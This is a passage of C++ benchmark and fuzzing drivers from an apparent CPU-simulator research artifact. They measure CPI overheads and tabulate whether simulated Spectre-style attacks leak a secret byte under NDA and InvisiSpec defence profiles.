                           workloads[wi]->name().c_str(),
                           profileName(profiles[pi]),
                           static_cast<unsigned long long>(accounted),
                           static_cast<unsigned long long>(total));
            }
        }

        // Pooled attribution per profile: contribution of cause c is
        // slots_c / (width x insts), so each column sums exactly to
        // that profile's pooled CPI — the figure's bars, explained.
        std::vector<std::array<double, kNumStallCauses>> contrib(
            profiles.size());
        std::vector<double> pooled_cpi(profiles.size(), 0.0);
        for (std::size_t pi = 0; pi < profiles.size(); ++pi) {
            std::array<std::uint64_t, kNumStallCauses> slots{};
            std::uint64_t insts = 0;
            std::uint64_t cycles = 0;
            unsigned width = 0;
            for (std::size_t wi = 0; wi < workloads.size(); ++wi) {
                const RunResult &r = grid[wi * profiles.size() + pi];
                for (int c = 0; c < kNumStallCauses; ++c)
                    slots[c] += r.mean.slotStack[c];
                insts += r.mean.instructions;
                cycles += r.mean.cycles;
                width = r.mean.slotWidth;
            }
            const double den = static_cast<double>(width) *
                               static_cast<double>(insts);
            for (int c = 0; c < kNumStallCauses; ++c)
                contrib[pi][c] =
                    den ? static_cast<double>(slots[c]) / den : 0.0;
            pooled_cpi[pi] =
                insts ? static_cast<double>(cycles) /
                            static_cast<double>(insts)
                      : 0.0;
        }
        std::printf("\nCPI attribution (cycles/inst, workloads "
                    "pooled; columns sum to pooled CPI):\n");
        std::vector<std::string> shdr{"cause"};
        for (Profile p : profiles)
            shdr.push_back(profileName(p));
        TablePrinter stack_table(shdr);
        for (int c = 0; c < kNumStallCauses; ++c) {
            bool any = false;
            for (std::size_t pi = 0; pi < profiles.size(); ++pi)
                any = any || contrib[pi][c] > 0.0;
            if (!any)
                continue;
            std::vector<std::string> row{
                stallCauseName(static_cast<StallCause>(c))};
            for (std::size_t pi = 0; pi < profiles.size(); ++pi)
                row.push_back(TablePrinter::fmt(contrib[pi][c], 3));
            stack_table.addRow(row);
        }
        std::vector<std::string> cpi_row{"CPI (sum)"};
        for (std::size_t pi = 0; pi < profiles.size(); ++pi)
            cpi_row.push_back(TablePrinter::fmt(pooled_cpi[pi], 3));
        stack_table.addRow(cpi_row);
        stack_table.print();

        // Tidy per-(cell, cause) export for external pivoting; every
        // cause is emitted (zeros included) so a consumer can re-check
        // the slot identity from the file alone.
        if (!stack_csv_path.empty()) {
            CsvWriter scsv(stack_csv_path);
            scsv.row({"workload", "profile", "width", "cycles",
                      "insts", "cause", "slots", "slot_frac",
                      "cpi_contrib"});
            for (std::size_t wi = 0; wi < workloads.size(); ++wi) {
                for (std::size_t pi = 0; pi < profiles.size(); ++pi) {
                    const RunResult &r =
                        grid[wi * profiles.size() + pi];
                    const double total =
                        static_cast<double>(r.mean.slotWidth) *
                        static_cast<double>(r.mean.cycles);
                    const double den =
                        static_cast<double>(r.mean.slotWidth) *
                        static_cast<double>(r.mean.instructions);
                    for (int c = 0; c < kNumStallCauses; ++c) {
                        const double s = static_cast<double>(
                            r.mean.slotStack[c]);
                        scsv.row(
                            {workloads[wi]->name(),
                             profileName(profiles[pi]),
                             std::to_string(r.mean.slotWidth),
                             std::to_string(r.mean.cycles),
                             std::to_string(r.mean.instructions),
                             stallCauseName(
                                 static_cast<StallCause>(c)),
                             std::to_string(r.mean.slotStack[c]),
                             CsvWriter::num(total ? s / total : 0.0,
                                            6),
                             CsvWriter::num(den ? s / den : 0.0,
                                            6)});
                    }
                }
            }
            NDA_INFORM("wrote %s", stack_csv_path.c_str());
        }

        // Collapsed-stack hotspots: one frame stack per
        // (workload, profile, pc, cause) — flamegraph.pl/speedscope
        // input.
        if (!stack_out_path.empty()) {
            std::string folded;
            for (std::size_t wi = 0; wi < workloads.size(); ++wi) {
                for (std::size_t pi = 0; pi < profiles.size(); ++pi) {
                    const RunResult &r =
                        grid[wi * profiles.size() + pi];
                    HotspotProfiler hp;
                    for (const HotspotEntry &e : r.mean.hotspots)
                        hp.mergeEntry(e);
                    folded += hp.renderCollapsed(
                        workloads[wi]->name() + ";" +
                        profileName(profiles[pi]));
                }
            }
            writeBenchFile(stack_out_path, folded);
        }

        // Per-cell stacks for the run manifest (compact JSON).
        JsonWriter jw(false);
        jw.beginArray();
        for (std::size_t wi = 0; wi < workloads.size(); ++wi) {
            for (std::size_t pi = 0; pi < profiles.size(); ++pi) {
                const RunResult &r = grid[wi * profiles.size() + pi];
                jw.beginObject();
                jw.key("workload");
                jw.value(workloads[wi]->name());
                jw.key("profile");
                jw.value(profileName(profiles[pi]));
                jw.key("width");
                jw.value(r.mean.slotWidth);
                jw.key("cycles");
                jw.value(r.mean.cycles);
                jw.key("insts");
                jw.value(r.mean.instructions);
                jw.key("slots");
                jw.beginObject();
                for (int c = 0; c < kNumStallCauses; ++c) {
                    if (!r.mean.slotStack[c])
                        continue;
                    jw.key(stallCauseStatName(
                        static_cast<StallCause>(c)));
                    jw.value(r.mean.slotStack[c]);
                }
                jw.endObject();
                jw.endObject();
            }
        }
        jw.endArray();
        stacks_json = jw.str();
    }

    emitBenchObs(obs, "fig07_cpi", Profile::kStrict, sp,
                 [&](RunManifest &m, StatsRegistry &reg) {
                     m.set("mshr_entries",
                           static_cast<std::uint64_t>(mshr_entries));
                     m.set("geomean_strict", geo[Profile::kStrict]);
                     m.set("geomean_in_order", in_order);
                     m.set("geomean_full_protection", full);
                     if (!stacks_json.empty())
                         m.setRaw("grid_cpi_stacks", stacks_json);
                     grid_stats.registerStats(reg, "harness");
                 });
    return 0;
}
