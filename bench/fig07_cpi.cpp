/**
 * @file
 * Regenerates paper Figure 7: cycles-per-instruction of all ten
 * machine profiles on every workload, normalized to the insecure OoO
 * baseline, with 95% confidence intervals from SMARTS-style sampled
 * measurement (paper §6.1). Ends with the geomean row and the
 * headline gap-closure claims of the abstract.
 */

#include <cstdio>
#include <map>
#include <memory>

#include "bench_common.hh"
#include "harness/csv.hh"
#include "common/stats_util.hh"
#include "harness/table_printer.hh"

using namespace nda;

int
main(int argc, char **argv)
{
    BenchObs obs;
    BenchCkpt ckpt;
    const SampleParams sp = parseSampleArgs(
        argc, argv,
        {"--csv=", "--mshr=", BenchCkpt::kUsageDir,
         BenchCkpt::kUsageMaxBytes, BenchCkpt::kUsageNoCkpt},
        &obs, &ckpt);
    std::string csv_path;
    unsigned mshr_entries = 0;
    for (int i = 1; i < argc; ++i) {
        const std::string arg = argv[i];
        if (arg.rfind("--csv=", 0) == 0)
            csv_path = arg.substr(6);
        else if (arg.rfind("--mshr=", 0) == 0)
            mshr_entries = static_cast<unsigned>(
                parseFlagNumber(argv[0], arg, 7));
    }
    printBanner("Figure 7: normalized CPI, all profiles x all "
                "workloads (95% CI over " +
                std::to_string(sp.samples) + " samples, " +
                std::to_string(sp.jobs) + " jobs)");

    const auto workloads = makeAllWorkloads();
    const auto profiles = allProfiles();

    // The whole figure is one grid of independent windows — run them
    // all concurrently, then format from the reduced cells.
    std::vector<SimConfig> configs;
    for (Profile p : profiles) {
        SimConfig cfg = makeProfile(p);
        cfg.memory.mshrEntries = mshr_entries;
        configs.push_back(cfg);
    }
    const std::unique_ptr<CheckpointStore> corpus = ckpt.open();
    GridStats grid_stats;
    ScopedTimer grid_timer(obs.timings, "grid");
    const std::vector<RunResult> grid = runGrid(
        workloads, configs, sp, gridProgress, &grid_stats,
        corpus.get());
    grid_timer.stop();
    if (corpus) {
        NDA_INFORM("checkpoint corpus '%s': %llu hits, %llu misses, "
                   "%llu entries on disk",
                   corpus->dir().c_str(),
                   static_cast<unsigned long long>(
                       corpus->stats().hits),
                   static_cast<unsigned long long>(
                       corpus->stats().misses),
                   static_cast<unsigned long long>(
                       corpus->entryCount()));
    }

    std::vector<std::string> headers{"workload"};
    for (Profile p : profiles)
        headers.push_back(profileName(p));
    TablePrinter table(headers);

    std::unique_ptr<CsvWriter> csv;
    if (!csv_path.empty()) {
        csv = std::make_unique<CsvWriter>(csv_path);
        std::vector<std::string> hdr{"workload"};
        for (Profile p : profiles) {
            hdr.push_back(profileName(p));
            hdr.push_back(std::string(profileName(p)) + "_ci95");
        }
        csv->row(hdr);
    }
    std::map<Profile, std::vector<double>> norm;
    for (std::size_t wi = 0; wi < workloads.size(); ++wi) {
        const auto &w = workloads[wi];
        std::vector<std::string> row{w->name()};
        std::vector<std::string> csv_row{w->name()};
        double base_cpi = 0.0;
        for (std::size_t pi = 0; pi < profiles.size(); ++pi) {
            const Profile p = profiles[pi];
            const RunResult &r = grid[wi * profiles.size() + pi];
            if (p == Profile::kOoo)
                base_cpi = r.mean.cpi;
            const double rel = r.mean.cpi / base_cpi;
            norm[p].push_back(rel);
            char cell[64];
            std::snprintf(cell, sizeof(cell), "%.2f±%.2f", rel,
                          r.cpiCi95 / base_cpi);
            row.push_back(cell);
            csv_row.push_back(CsvWriter::num(rel, 4));
            csv_row.push_back(CsvWriter::num(r.cpiCi95 / base_cpi, 4));
        }
        table.addRow(row);
        if (csv)
            csv->row(csv_row);
    }

    std::vector<std::string> geo_row{"GEOMEAN"};
    std::map<Profile, double> geo;
    for (Profile p : profiles) {
        geo[p] = geomean(norm[p]);
        geo_row.push_back(TablePrinter::fmt(geo[p], 3));
    }
    table.addRow(geo_row);
    table.print();

    std::printf("\nPaper geomeans (Table 2 overhead column + text):\n"
                "  OoO 1.00, Permissive 1.107, Permissive+BR 1.223,\n"
                "  Strict 1.361, Strict+BR 1.45, Restricted Loads "
                "2.00,\n"
                "  Full Protection 2.25, In-Order ~5.4x,\n"
                "  InvisiSpec-Spectre 1.076, InvisiSpec-Future "
                "1.327.\n");

    // The abstract's headline claims.
    const double in_order = geo[Profile::kInOrder];
    const double perm_br = geo[Profile::kPermissiveBr];
    const double full = geo[Profile::kFullProtection];
    const double gap = in_order - 1.0;
    std::printf("\nHeadline claims (paper -> measured):\n");
    std::printf("  Permissive+BR closes 96%% of the in-order/OoO gap "
                "-> %.0f%%\n",
                100.0 * (in_order - perm_br) / gap);
    std::printf("  Full protection closes 68%% of the gap -> %.0f%%\n",
                100.0 * (in_order - full) / gap);
    std::printf("  Permissive+BR is 4.8x faster than in-order -> "
                "%.1fx\n",
                in_order / perm_br);
    std::printf("  Full protection is 2.4x faster than in-order -> "
                "%.1fx\n",
                in_order / full);

    emitBenchObs(obs, "fig07_cpi", Profile::kStrict, sp,
                 [&](RunManifest &m, StatsRegistry &reg) {
                     m.set("mshr_entries",
                           static_cast<std::uint64_t>(mshr_entries));
                     m.set("geomean_strict", geo[Profile::kStrict]);
                     m.set("geomean_in_order", in_order);
                     m.set("geomean_full_protection", full);
                     grid_stats.registerStats(reg, "harness");
                 });
    return 0;
}
