/**
 * @file
 * Differential fuzzing campaign driver.
 *
 * Default mode generates `--runs` random programs and cross-checks the
 * reference interpreter against every machine profile (architectural
 * state, DIFT taint, per-cycle pipeline invariants). `--inject=KIND`
 * instead runs the checker self-test: deliberately corrupt pipeline
 * state and verify the corruption is caught by the expected invariant
 * family. `--minimize` shrinks any failing (or injected) program to a
 * small repro under --corpus-dir.
 *
 * Exit status: 0 = clean, 1 = failures found (or an injected
 * corruption went undetected), 2 = usage error.
 */

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <map>
#include <string>
#include <vector>

#include "bench_common.hh"
#include "common/thread_pool.hh"
#include "fuzz/corpus.hh"
#include "fuzz/differential_fuzzer.hh"
#include "fuzz/minimizer.hh"

namespace {

using namespace nda;

void
printUsage(const char *prog)
{
    std::fprintf(
        stderr,
        "usage: %s [options]\n"
        "  --runs=N          seeds to test (default 100)\n"
        "  --seed0=N         first seed (default 1)\n"
        "  --jobs=N          parallel lanes (default: hardware "
        "threads; results are identical for any N)\n"
        "  --profile=NAME    restrict to one profile (repeatable; "
        "default: all ten)\n"
        "  --no-dift         skip DIFT taint comparison\n"
        "  --no-invariants   detach the per-cycle invariant checker\n"
        "  --mshr=N          MSHR entries per L1 file on every profile "
        "(default 0\n"
        "                    = legacy eager fills; 1 = blocking; >= 2 "
        "= MLP)\n"
        "  --minimize        shrink failing programs and write corpus "
        "entries\n"
        "  --corpus-dir=DIR  corpus output directory (default "
        "tests/corpus)\n"
        "  --inject=KIND     checker self-test; KIND is one of "
        "freelist-leak,\n"
        "                    double-free, early-wakeup, "
        "rename-corrupt, rob-reorder,\n"
        "                    mshr-dup-primary, mshr-ghost-target, "
        "mshr-overflow,\n"
        "                    mshr-stuck-fill, smt-rename-bleed\n"
        "  --inject-seed=N   program seed for --inject (default 1)\n"
        "  --inject-cycle=N  first cycle eligible for corruption "
        "(default 2000)\n"
        "  --stats-out=F     write a JSON run manifest (campaign "
        "totals + one\n"
        "                    instrumented window)\n"
        "  --trace-out=F     write a pipeline trace of that window\n"
        "  --trace-format=chrome|konata|text (default: chrome)\n"
        "  --quiet           warnings and results only\n"
        "  -v                verbose (debug-level) logging\n",
        prog);
}

[[noreturn]] void
usageError(const char *prog, const std::string &msg)
{
    std::fprintf(stderr, "%s: %s\n", prog, msg.c_str());
    printUsage(prog);
    std::exit(2);
}

std::uint64_t
parseNumber(const char *prog, const std::string &arg,
            std::size_t prefix_len)
{
    const std::string value = arg.substr(prefix_len);
    std::size_t consumed = 0;
    unsigned long long n = 0;
    try {
        n = std::stoull(value, &consumed);
    } catch (const std::exception &) {
    }
    if (value.empty() || consumed != value.size())
        usageError(prog, "invalid value in '" + arg +
                             "' (expected a number)");
    return n;
}

Profile
parseProfile(const char *prog, const std::string &name)
{
    for (Profile p : allProfiles()) {
        if (name == profileName(p))
            return p;
    }
    std::string names;
    for (Profile p : allProfiles()) {
        if (!names.empty())
            names += ", ";
        names += std::string("'") + profileName(p) + "'";
    }
    usageError(prog, "unknown profile '" + name + "' (expected one of " +
                         names + ")");
}

/** "still fails the same way" for campaign failures: the shrunk
 *  program must reproduce the same failure kind on the same profile
 *  (checked alone, so minimization stays cheap). */
FailurePredicate
makeDiffPredicate(const FuzzFailure &fail, const FuzzParams &campaign)
{
    FuzzParams p = campaign;
    p.profiles = {fail.profile};
    return [p, fail](const Program &candidate) {
        const SeedOutcome out = fuzzProgram(candidate, fail.seed, p);
        for (const FuzzFailure &f : out.failures) {
            if (f.kind == fail.kind)
                return true;
        }
        return false;
    };
}

/** Predicate for injection repros: the shrunk program must still (a)
 *  halt cleanly and match the oracle on the target profile — corpus
 *  replay runs it uncorrupted and expects green — and (b) reach
 *  pipeline state where the corruption applies and trips the expected
 *  invariant family. */
FailurePredicate
makeInjectPredicate(Profile profile, FuzzCorruption kind,
                    Cycle inject_cycle)
{
    FuzzParams quick;
    quick.profiles = {profile};
    quick.checkInvariants = true;
    quick.compareTaint = false;
    return [profile, kind, inject_cycle,
            quick](const Program &candidate) {
        const SeedOutcome clean = fuzzProgram(candidate, 0, quick);
        if (clean.skipped || !clean.failures.empty())
            return false;
        const InjectionOutcome out =
            runWithInjection(candidate, profile, kind, inject_cycle);
        if (!out.applied)
            return false;
        const InvariantKind expected = expectedInvariant(kind);
        for (InvariantKind k : out.kinds) {
            if (k == expected)
                return true;
        }
        return false;
    };
}

int
runInjectMode(Profile profile, FuzzCorruption kind,
              std::uint64_t seed, Cycle inject_cycle, bool minimize,
              const std::string &corpus_dir)
{
    const Program prog = generateRandomProgram(seed, paramsForSeed(seed));
    const InjectionOutcome out =
        runWithInjection(prog, profile, kind, inject_cycle);

    std::printf("inject %s on '%s' (seed %llu, cycle >= %llu): ",
                fuzzCorruptionName(kind), profileName(profile),
                static_cast<unsigned long long>(seed),
                static_cast<unsigned long long>(inject_cycle));
    if (!out.applied) {
        std::printf("corruption never applied\n");
        return 1;
    }
    std::printf("%llu violation(s)\n",
                static_cast<unsigned long long>(out.violations));
    if (!out.firstViolation.empty())
        std::printf("  first: %s\n", out.firstViolation.c_str());

    const InvariantKind expected = expectedInvariant(kind);
    bool caught = false;
    for (InvariantKind k : out.kinds)
        caught = caught || k == expected;
    if (!caught) {
        std::printf("  NOT caught by expected invariant '%s'\n",
                    invariantKindName(expected));
        return 1;
    }
    std::printf("  caught by expected invariant '%s'\n",
                invariantKindName(expected));

    if (minimize) {
        MinimizeStats stats;
        const Program small = minimizeProgram(
            prog, makeInjectPredicate(profile, kind, inject_cycle),
            &stats);
        std::printf("  minimized: %u -> %u ops (%u candidates)\n",
                    stats.opsBefore, stats.opsAfter,
                    stats.candidatesTried);
        const std::string path = writeCorpusEntry(
            corpus_dir, std::string("inject-") + fuzzCorruptionName(kind),
            seed, small,
            {std::string("minimized repro: corruption '") +
                 fuzzCorruptionName(kind) + "' injected on profile '" +
                 profileName(profile) + "' trips invariant '" +
                 invariantKindName(expected) + "'",
             "replays clean (uncorrupted) on every profile"});
        std::printf("  corpus: %s\n", path.c_str());
    }
    return 0;
}

} // namespace

int
main(int argc, char **argv)
{
    FuzzParams params;
    params.jobs = ThreadPool::defaultConcurrency();
    logVerbosity = std::max(logVerbosity, 1);
    BenchObs obs;
    bool minimize = false;
    std::string corpus_dir = "tests/corpus";
    bool inject = false;
    FuzzCorruption inject_kind = FuzzCorruption::kNone;
    std::uint64_t inject_seed = 1;
    Cycle inject_cycle = 2000;

    for (int i = 1; i < argc; ++i) {
        const std::string arg = argv[i];
        if (obs.parseArg(arg, argv[0])) {
            continue;
        } else if (arg.rfind("--runs=", 0) == 0) {
            params.runs = parseNumber(argv[0], arg, 7);
        } else if (arg.rfind("--seed0=", 0) == 0) {
            params.seed0 = parseNumber(argv[0], arg, 8);
        } else if (arg.rfind("--jobs=", 0) == 0) {
            params.jobs =
                static_cast<unsigned>(parseNumber(argv[0], arg, 7));
            if (params.jobs == 0)
                params.jobs = ThreadPool::defaultConcurrency();
        } else if (arg.rfind("--profile=", 0) == 0) {
            params.profiles.push_back(
                parseProfile(argv[0], arg.substr(10)));
        } else if (arg.rfind("--mshr=", 0) == 0) {
            params.mshrEntries =
                static_cast<unsigned>(parseNumber(argv[0], arg, 7));
        } else if (arg == "--no-dift") {
            params.compareTaint = false;
        } else if (arg == "--no-invariants") {
            params.checkInvariants = false;
        } else if (arg == "--minimize") {
            minimize = true;
        } else if (arg.rfind("--corpus-dir=", 0) == 0) {
            corpus_dir = arg.substr(13);
        } else if (arg.rfind("--inject=", 0) == 0) {
            inject = true;
            inject_kind = fuzzCorruptionFromName(arg.substr(9));
            if (inject_kind == FuzzCorruption::kNone) {
                usageError(argv[0],
                           "unknown corruption kind in '" + arg + "'");
            }
        } else if (arg.rfind("--inject-seed=", 0) == 0) {
            inject_seed = parseNumber(argv[0], arg, 14);
        } else if (arg.rfind("--inject-cycle=", 0) == 0) {
            inject_cycle = parseNumber(argv[0], arg, 15);
        } else if (arg == "--help" || arg == "-h") {
            printUsage(argv[0]);
            return 0;
        } else {
            usageError(argv[0], "unrecognized argument '" + arg + "'");
        }
    }

    if (inject) {
        const Profile profile = params.profiles.empty()
                                    ? Profile::kStrict
                                    : params.profiles.front();
        return runInjectMode(profile, inject_kind, inject_seed,
                             inject_cycle, minimize, corpus_dir);
    }

    ScopedTimer campaign_timer(obs.timings, "campaign");
    const FuzzResult result = runFuzz(
        params, [](std::size_t done, std::size_t total) {
            if (logVerbosity < 1)
                return;
            std::fprintf(stderr, "\r  %zu/%zu seeds", done, total);
            if (done == total)
                std::fprintf(stderr, "\n");
        });
    campaign_timer.stop();

    std::printf("fuzz: %llu executed, %llu skipped, fingerprint "
                "%016llx\n",
                static_cast<unsigned long long>(result.executed),
                static_cast<unsigned long long>(result.skipped),
                static_cast<unsigned long long>(result.fingerprint));
    for (const FuzzFailure &f : result.failures) {
        std::printf("FAIL seed %llu profile '%s' [%s]: %s\n",
                    static_cast<unsigned long long>(f.seed),
                    profileName(f.profile), fuzzFailureKindName(f.kind),
                    f.detail.c_str());
    }

    if (minimize && !result.failures.empty()) {
        // One corpus entry per failing seed, keyed on its first
        // failure (later failures on the same seed are usually
        // downstream echoes of the same divergence).
        std::map<std::uint64_t, const FuzzFailure *> by_seed;
        for (const FuzzFailure &f : result.failures)
            by_seed.emplace(f.seed, &f);
        for (const auto &[seed, fail] : by_seed) {
            const Program prog =
                generateRandomProgram(seed, paramsForSeed(seed));
            MinimizeStats stats;
            const Program small = minimizeProgram(
                prog, makeDiffPredicate(*fail, params), &stats);
            const std::string path = writeCorpusEntry(
                corpus_dir,
                std::string("diff-") + fuzzFailureKindName(fail->kind),
                seed, small,
                {std::string("minimized repro: ") +
                     fuzzFailureKindName(fail->kind) + " on profile '" +
                     profileName(fail->profile) + "'",
                 fail->detail});
            std::printf("minimized seed %llu: %u -> %u ops -> %s\n",
                        static_cast<unsigned long long>(seed),
                        stats.opsBefore, stats.opsAfter, path.c_str());
        }
    }

    SampleParams sp;
    sp.baseSeed = params.seed0;
    sp.jobs = params.jobs;
    emitBenchObs(obs, "fuzz_differential", Profile::kStrict, sp,
                 [&](RunManifest &m, StatsRegistry &reg) {
                     m.set("runs", params.runs);
                     m.set("seed0", params.seed0);
                     m.set("mshr_entries",
                           static_cast<std::uint64_t>(
                               params.mshrEntries));
                     result.registerStats(reg, "fuzz");
                 });

    if (result.failures.empty()) {
        std::printf("OK\n");
        return 0;
    }
    return 1;
}
