/**
 * @file
 * Regenerates paper Table 1 (attack taxonomy: access method and
 * covert channel) and extends it with the empirical leak/block
 * outcome of every implemented attack against every machine profile —
 * the matrix Table 2's security columns summarize.
 */

#include <cstdio>

#include "attacks/attack_registry.hh"
#include "harness/profiles.hh"
#include "harness/table_printer.hh"

using namespace nda;

int
main()
{
    printBanner("Table 1: attack taxonomy");
    {
        TablePrinter t({"attack", "class", "covert channel",
                        "description"});
        for (const auto &a : makeAllAttacks()) {
            t.addRow({a->name(),
                      a->isChosenCode() ? "chosen-code"
                                        : "control-steering",
                      a->channel(), a->description()});
        }
        t.print();
    }

    printBanner("Empirical leak matrix (secret byte 42; LEAK = "
                "recovered via timing)");
    const std::vector<Profile> profiles = {
        Profile::kOoo,
        Profile::kPermissive,
        Profile::kPermissiveBr,
        Profile::kStrict,
        Profile::kStrictBr,
        Profile::kRestrictedLoads,
        Profile::kFullProtection,
        Profile::kInvisiSpecSpectre,
        Profile::kInvisiSpecFuture,
    };
    std::vector<std::string> headers{"attack"};
    for (Profile p : profiles)
        headers.push_back(profileName(p));
    TablePrinter t(headers);

    int mismatches = 0;
    for (const auto &attack : makeAllAttacks()) {
        std::vector<std::string> row{attack->name()};
        for (Profile p : profiles) {
            const SimConfig cfg = makeProfile(p);
            const AttackResult r = attack->run(cfg, 42);
            const bool expect_blocked =
                attack->expectedBlocked(cfg.security);
            std::string cell = r.leaked() ? "LEAK" : "safe";
            if (r.leaked() != !expect_blocked) {
                cell += " (!!)";
                ++mismatches;
            }
            row.push_back(cell);
        }
        t.addRow(row);
        std::fprintf(stderr, "  %s done\n", attack->name().c_str());
    }
    t.print();

    std::printf("\nPaper Table 2 semantics check: %d deviations.\n"
                "Expected pattern: NDA propagation blocks "
                "control-steering;\n+BR adds SSB; strict adds GPR "
                "secrets; load restriction blocks\nchosen-code; "
                "InvisiSpec blocks only the d-cache channel (the\n"
                "BTB attack defeats it).\n",
                mismatches);
    return mismatches == 0 ? 0 : 1;
}
