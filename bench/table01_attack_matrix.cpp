/**
 * @file
 * Regenerates paper Table 1 (attack taxonomy: access method and
 * covert channel) and extends it with the empirical leak/block
 * outcome of every implemented attack against every machine profile —
 * the matrix Table 2's security columns summarize.
 *
 * Every cell carries a dual verdict: the *timing* verdict (did the
 * covert-channel receiver recover the secret byte?) and the *DIFT
 * oracle* verdict (did tainted data reach a persistent structure from
 * the wrong path?). The two are independent detectors of the same
 * event, so they must agree; `--oracle` turns any disagreement into a
 * nonzero exit for CI.
 *
 * Cells are independent simulations, so the sweep fans out over the
 * shared ThreadPool (`--jobs=N`); each task constructs its own attack
 * instance and core, and writes into a pre-sized slot, keeping the
 * output bit-identical for any job count.
 */

#include <atomic>
#include <cstdio>
#include <string>
#include <vector>

#include "attacks/attack_registry.hh"
#include "bench_common.hh"
#include "common/thread_pool.hh"
#include "harness/profiles.hh"
#include "harness/table_printer.hh"

using namespace nda;

namespace {

/** Outcome of one (attack, profile) cell. */
struct CellResult {
    bool timingLeak = false;
    bool oracleLeak = false;
    bool expectBlocked = false;
};

} // namespace

int
main(int argc, char **argv)
{
    bool oracle_strict = false;
    // --oracle: fail (exit 1) if the timing and DIFT-oracle verdicts
    // disagree on any cell. --smt=1 restricts the matrix to the
    // single-thread rows, --smt=2 to the cross-thread (co-resident
    // attacker) rows; without the flag every attack runs. Cross-thread
    // attacks pick their own thread count in adjustConfig, so the flag
    // selects rows rather than reconfiguring cores.
    unsigned smt = 0;
    BenchObs obs;
    const SampleParams params =
        parseSampleArgs(argc, argv, {"--oracle", "--smt="}, &obs);
    for (int i = 1; i < argc; ++i) {
        const std::string arg = argv[i];
        if (arg == "--oracle")
            oracle_strict = true;
        else if (arg.rfind("--smt=", 0) == 0)
            smt = static_cast<unsigned>(
                parseFlagNumber(argv[0], arg, 6));
    }

    printBanner("Table 1: attack taxonomy");
    {
        TablePrinter t({"attack", "class", "covert channel",
                        "description"});
        for (const auto &a : makeAllAttacks()) {
            t.addRow({a->name(),
                      a->isChosenCode() ? "chosen-code"
                                        : "control-steering",
                      a->channel(), a->description()});
        }
        t.print();
    }

    const std::vector<Profile> profiles = {
        Profile::kOoo,
        Profile::kPermissive,
        Profile::kPermissiveBr,
        Profile::kStrict,
        Profile::kStrictBr,
        Profile::kRestrictedLoads,
        Profile::kFullProtection,
        Profile::kInvisiSpecSpectre,
        Profile::kInvisiSpecFuture,
    };
    std::vector<std::string> attack_names;
    for (const auto &a : makeAllAttacks()) {
        if (smt == 1 && a->crossThread())
            continue;
        if (smt >= 2 && !a->crossThread())
            continue;
        attack_names.push_back(a->name());
    }

    const std::size_t cols = profiles.size();
    const std::size_t cells = attack_names.size() * cols;
    std::vector<CellResult> results(cells);

    // Each cell builds its own attack + core, so cells only share the
    // pre-sized result slots.
    std::atomic<std::size_t> done{0};
    ScopedTimer matrix_timer(obs.timings, "attack-matrix");
    ThreadPool pool(params.jobs);
    pool.parallelFor(cells, [&](std::size_t i) {
        const std::size_t row = i / cols;
        const Profile p = profiles[i % cols];
        auto attack = makeAttack(attack_names[row]);
        const SimConfig cfg = makeProfile(p);
        const AttackResult r = attack->run(cfg, 42);
        CellResult &cell = results[i];
        cell.timingLeak = r.leaked();
        cell.oracleLeak = r.oracle.leaked();
        cell.expectBlocked = attack->expectedBlocked(cfg.security);
        gridProgress(++done, cells);
    });
    matrix_timer.stop();

    printBanner("Empirical leak matrix (secret byte 42; "
                "timing verdict / DIFT-oracle verdict)");
    std::vector<std::string> headers{"attack"};
    for (Profile p : profiles)
        headers.push_back(profileName(p));
    TablePrinter t(headers);

    int mismatches = 0;
    int disagreements = 0;
    for (std::size_t row = 0; row < attack_names.size(); ++row) {
        std::vector<std::string> cells_text{attack_names[row]};
        for (std::size_t col = 0; col < cols; ++col) {
            const CellResult &c = results[row * cols + col];
            std::string cell = c.timingLeak ? "LEAK" : "safe";
            cell += c.oracleLeak ? "/flow" : "/clean";
            if (c.timingLeak != !c.expectBlocked) {
                cell += " (!!)";
                ++mismatches;
            }
            if (c.timingLeak != c.oracleLeak) {
                cell += " (?!)";
                ++disagreements;
            }
            cells_text.push_back(cell);
        }
        t.addRow(cells_text);
    }
    t.print();

    std::printf("\nPaper Table 2 semantics check: %d deviations.\n"
                "Expected pattern: NDA propagation blocks "
                "control-steering;\n+BR adds SSB; strict adds GPR "
                "secrets; load restriction blocks\nchosen-code; "
                "InvisiSpec blocks only the d-cache channel (the\n"
                "BTB attack defeats it).\n",
                mismatches);
    std::printf("Timing vs DIFT oracle: %d of %zu cells disagree.\n",
                disagreements, cells);

    emitBenchObs(obs, "table01_attack_matrix", Profile::kStrict,
                 params, [&](RunManifest &m, StatsRegistry &) {
                     m.set("mismatches",
                           static_cast<std::uint64_t>(mismatches));
                     m.set("oracle_disagreements",
                           static_cast<std::uint64_t>(disagreements));
                 });
    if (mismatches != 0)
        return 1;
    if (oracle_strict && disagreements != 0)
        return 1;
    return 0;
}
