/**
 * @file
 * Regenerates paper Figure 8: the Figure 4 experiment repeated with
 * NDA permissive propagation enabled — the cycle dips disappear and
 * the secret byte is indistinguishable from the other 255 candidates,
 * regardless of covert channel.
 */

#include <cstdio>

#include "attacks/attacks.hh"
#include "bench_common.hh"
#include "harness/table_printer.hh"

using namespace nda;

int
main(int argc, char **argv)
{
    BenchObs obs;
    const SampleParams sp = parseSampleArgs(argc, argv, {}, &obs);
    printBanner("Figure 8: Spectre v1 under NDA permissive propagation "
                "(cache and BTB channels)");
    std::printf("Paper reference: the Fig 4 cycle differences are "
                "eliminated;\nthe secret is concealed regardless of "
                "the covert channel.\n\n");

    const SimConfig cfg = makeProfile(Profile::kPermissive);
    const std::uint8_t secret = 42;

    // The two end-to-end attack simulations are independent; run
    // them on the pool (each owns its core and memory).
    SpectreV1Cache cache_attack;
    SpectreV1Btb btb_attack;
    AttackResult cache_r, btb_r;
    ScopedTimer attack_timer(obs.timings, "attacks");
    ThreadPool pool(std::min(2u, sp.jobs));
    pool.parallelFor(2, [&](std::size_t i) {
        if (i == 0)
            cache_r = cache_attack.run(cfg, secret);
        else
            btb_r = btb_attack.run(cfg, secret);
    });
    attack_timer.stop();

    TablePrinter t({"channel", "t[secret]", "median-ish t", "signal",
                    "leaked"});
    auto row = [&](const char *name, const AttackResult &r) {
        t.addRow({name, TablePrinter::fmt(r.timings[r.secret], 0),
                  TablePrinter::fmt(r.timings[r.secret] + r.signal, 0),
                  TablePrinter::fmt(r.signal, 1),
                  r.leaked() ? "YES (!!)" : "no"});
    };
    row("d-cache", cache_r);
    row("BTB", btb_r);
    t.print();

    const bool blocked = !cache_r.leaked() && !btb_r.leaked();
    std::printf("\nSummary: NDA permissive blocks both channels: %s\n",
                blocked ? "yes" : "NO");

    // Strict propagation defers every unsafe tag broadcast, so the
